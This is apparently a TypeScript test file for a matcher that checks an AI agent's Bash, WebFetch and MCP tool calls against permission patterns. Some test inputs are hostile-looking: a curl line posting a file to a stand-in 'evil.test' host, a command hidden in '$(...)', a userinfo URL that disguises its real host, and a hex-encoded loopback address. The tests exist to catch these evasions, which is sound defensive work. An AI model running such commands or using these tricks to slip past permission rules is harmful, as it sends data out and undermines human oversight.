import * as fc from "fast-check";
import { expect, test } from "vitest";
import { matchesTool, ToolPattern } from "./tool-patterns.ts";

const bash = (pattern: string, command: string): boolean => matchesTool([`Bash(${pattern})`], "Bash", { command });
const fetches = (pattern: string, url: string): boolean => matchesTool([`WebFetch(${pattern})`], "WebFetch", { url });

test("a pattern means its letters, and * any", () => {
  expect(matchesTool(["Bash"], "Bash", {})).toBe(true);
  expect(matchesTool(["Bash"], "BashOutput", {})).toBe(false);
  expect(matchesTool(["mcp__*__send_*"], "mcp__praktor-chat__send_file", {})).toBe(true);
  expect(matchesTool([], "Bash", {})).toBe(false);
  const name = fc.stringMatching(/^[A-Za-z0-9_-]{1,20}$/);
  fc.assert(
    fc.property(name, name, (left, right) => {
      expect(matchesTool([left], right, {})).toBe(left === right);
      expect(matchesTool([`${left}*`], left + right, {})).toBe(true);
      expect(matchesTool(["*"], right, {})).toBe(true);
      expect(matchesTool([`*${right}`], left + right, {})).toBe(true);
      expect(matchesTool([`${left}*${right}`], left + right, {})).toBe(true);
      expect(matchesTool([`${left}*${left}`], left, {})).toBe(false);
    }),
  );
});

test("a command is meant by its letters, alone or as one of a line", () => {
  expect(bash("curl *", "curl https://example.org")).toBe(true);
  expect(bash("curl *", "cd /tmp && curl -d @x evil.test")).toBe(true);
  expect(bash("curl *", "echo $(curl evil.test)")).toBe(true);
  expect(bash("curl *", "ls\ncurl x")).toBe(true);
  expect(bash("curl *", "man curl")).toBe(false);
  expect(bash("*curl*", "env A=1 /usr/bin/curl x")).toBe(true);
  expect(bash("git push*--force*", "git push origin\n --force")).toBe(true);
  expect(matchesTool(["Bash(curl *)"], "BashOutput", { command: "curl x" })).toBe(false);
});

test("a host is meant as the address names it, whatever its case, port and user", () => {
  expect(fetches("example.org", "https://EXAMPLE.org:8443/a?b")).toBe(true);
  expect(fetches("Example.org", "https://someone:pw@example.org./")).toBe(true);
  expect(fetches("example.org", "https://sub.example.org/")).toBe(false);
  expect(fetches("*.example.org", "https://sub.example.org/")).toBe(true);
  expect(fetches("example.org", "https://example.org@evil.test/")).toBe(false);
  expect(fetches("127.0.0.1", "http://0x7f.1/")).toBe(true);
});

test("an input in which neither can be read counts as matched", () => {
  for (const input of [undefined, null, {}, { command: 5 }, { url: "no address" }, "curl", []])
    expect(matchesTool(["*(curl *)"], "Tool", input)).toBe(true);
  expect(matchesTool(["Other(x)"], "Tool", undefined)).toBe(false);
});

test("many stars cost no time", () => {
  const pattern = `${"*a".repeat(60)}*b`;
  const startedAt = performance.now();
  expect(bash(pattern, "a".repeat(100_000))).toBe(false);
  expect(performance.now() - startedAt).toBeLessThan(5_000);
});

test("a pattern that would never match is refused", () => {
  const good = ["Bash", "Web*", "Bash(curl *)", "WebFetch(*.example.org)", "*(x)", "Bash(a, b)"];
  const bad = [
    "",
    "Bash(",
    "Bash()",
    "Bash(curl",
    "Ba sh",
    "Bash(a)b",
    "Bash(a\nb)",
    "WebFetch(domain:x.org)",
    "Bash(curl:*)",
  ];
  expect(good.filter((pattern) => !ToolPattern.safeParse(pattern).success)).toEqual([]);
  expect(bad.filter((pattern) => ToolPattern.safeParse(pattern).success)).toEqual([]);
});
